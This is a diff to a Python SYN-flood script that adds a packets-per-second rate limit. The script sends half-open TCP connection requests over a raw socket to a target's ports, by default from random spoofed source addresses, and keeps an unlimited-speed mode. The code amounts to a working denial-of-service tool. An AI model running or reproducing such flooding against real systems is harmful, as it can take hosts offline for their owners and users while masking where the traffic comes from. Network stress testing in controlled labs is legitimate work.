@@ -1,17 +1,18 @@
 # SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
-"""Sends TCP segments that open connections and never go on, as fast as it can: from random
-sources or from one, to one port or to each of a range.
+"""Sends TCP segments that open connections and never go on: from random sources or from
+one, to one port or to each of a range.
 
-    flood.py DEVICE MAC TARGET PORT[-PORT] COUNT [SOURCE]
+    flood.py DEVICE MAC TARGET PORT[-PORT] COUNT RATE [SOURCE]
 
-MAC is whose who takes them on DEVICE. Without SOURCE each segment has another one. Says how
-many it sent.
+MAC is of who takes them on DEVICE. RATE is how many in a second at most, 0 as many as it can.
+Without SOURCE each segment has another one. Says how many it sent.
 """
 import ipaddress
 import random
 import socket
 import struct
 import sys
+import time
 
 SYN = 0x02
 ETH_P_IP, ETH_P_IPV6 = 0x0800, 0x86DD
@@ -55,9 +56,9 @@ def packet(source, target, port):
 
 
 def main():
-    device, mac, target, ports, count = sys.argv[1:6]
+    device, mac, target, ports, count, rate = sys.argv[1:7]
     target = ipaddress.ip_address(target).packed
-    own = ipaddress.ip_address(sys.argv[6]).packed if len(sys.argv) > 6 else None
+    own = ipaddress.ip_address(sys.argv[7]).packed if len(sys.argv) > 7 else None
     low, _, high = ports.partition("-")
     ports = range(int(low), int(high or low) + 1)
     kind = ETH_P_IP if len(target) == 4 else ETH_P_IPV6
@@ -65,7 +66,10 @@ def main():
         opened.bind((device, 0))
         start = (bytes.fromhex(mac.replace(":", "")) + opened.getsockname()[4]
                  + struct.pack("!H", kind))
+        began = time.monotonic()
         for number in range(int(count)):
+            if int(rate) and number % 10 == 0:
+                time.sleep(max(0, began + number / int(rate) - time.monotonic()))
             source = own or random_source(len(target))
             opened.send(start + packet(source, target, ports[number % len(ports)]))
     print(f"sent {count}")
